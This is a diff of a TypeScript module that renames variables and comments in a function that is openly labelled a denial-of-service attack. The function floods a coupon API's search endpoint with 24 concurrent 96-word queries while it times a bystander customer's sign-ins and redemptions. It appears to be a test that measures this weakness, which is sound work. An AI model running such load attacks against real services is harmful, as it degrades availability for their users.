@@ -1,6 +1,6 @@
-/** As many words as the field takes. */
+/** Search with as many words as the field accepts. */
 const SEARCH = `/api/cupons/disponiveis?busca=${Array(96).fill('a').join('+')}`
-const AT_ONCE = 24
+const CONCURRENCY = 24
 
 type Got = { readonly status: number; readonly ms: number; readonly body: string }
 
@@ -18,8 +18,8 @@ const post = (url: string, body: object, token?: string): Promise<Got> =>
     body: JSON.stringify(body),
   })
 
-/** How often each status came, and how long the slowest took. */
-function told(all: readonly Got[]): Record<string, string> {
+/** Summary of responses: count by status, and the slowest. */
+function summaryOf(all: readonly Got[]): Record<string, string> {
   const statuses = Object.entries(Object.groupBy(all, ({ status }) => String(status)))
   return {
     'slowest, s': (Math.max(...all.map(({ ms }) => ms)) / 1000).toFixed(2),
@@ -27,10 +27,10 @@ function told(all: readonly Got[]): Record<string, string> {
   }
 }
 
-/** Somebody who goes on using the api. */
+/** Bystander: a customer who uses the api during the attack. */
 export type Bystander = { readonly email: string; readonly password: string; readonly token: string }
 
-/** Coupons without points that the bystander may redeem one after the other. */
+/** Free coupons that the bystander may redeem, by id. */
 async function freeCoupons(api: string, { token }: Bystander): Promise<number[]> {
   const headers = { authorization: `Bearer ${token}` }
   const { body } = await timed(`${api}/api/cupons/disponiveis?limite=200`, { headers })
@@ -39,15 +39,15 @@ async function freeCoupons(api: string, { token }: Bystander): Promise<number[]>
 }
 
 /**
- * What a search of many words costs, alone and many times at once, and what others get meanwhile: readiness, sign-ins
- * and redemptions, one after the other until the last search is answered.
+ * Denial of service by searches of many words: their cost alone and concurrently, and the response times of others
+ * meanwhile: readiness, sign-ins and redemptions, one after the other until the last search is answered.
  */
 export async function attack(api: string, bystander: Bystander): Promise<Record<string, Record<string, string>>> {
   const coupons = await freeCoupons(api, bystander)
   const alone = await timed(`${api}${SEARCH}`)
   const since = performance.now()
   let isOver = false
-  const all = Promise.all(Array.from({ length: AT_ONCE }, () => timed(`${api}${SEARCH}`)))
+  const all = Promise.all(Array.from({ length: CONCURRENCY }, () => timed(`${api}${SEARCH}`)))
   const over = all.then(() => {
     isOver = true
     return performance.now() - since
@@ -61,10 +61,10 @@ export async function attack(api: string, bystander: Bystander): Promise<Record<
     redemptions.push(await post(`${api}/api/cupons/comprar`, { coupon_id: coupons.pop() }, bystander.token))
   } while (!isOver)
   return {
-    'one search of 96 words': told([alone]),
-    [`${AT_ONCE} of them at once`]: { ...told(await all), 'all, s': ((await over) / 1000).toFixed(2) },
-    'ready meanwhile': told(ready),
-    'signing in meanwhile': told(signIns),
-    'redeeming meanwhile': told(redemptions),
+    'one search of 96 words': summaryOf([alone]),
+    [`${CONCURRENCY} of them at once`]: { ...summaryOf(await all), 'all, s': ((await over) / 1000).toFixed(2) },
+    'ready meanwhile': summaryOf(ready),
+    'signing in meanwhile': summaryOf(signIns),
+    'redeeming meanwhile': summaryOf(redemptions),
   }
 }
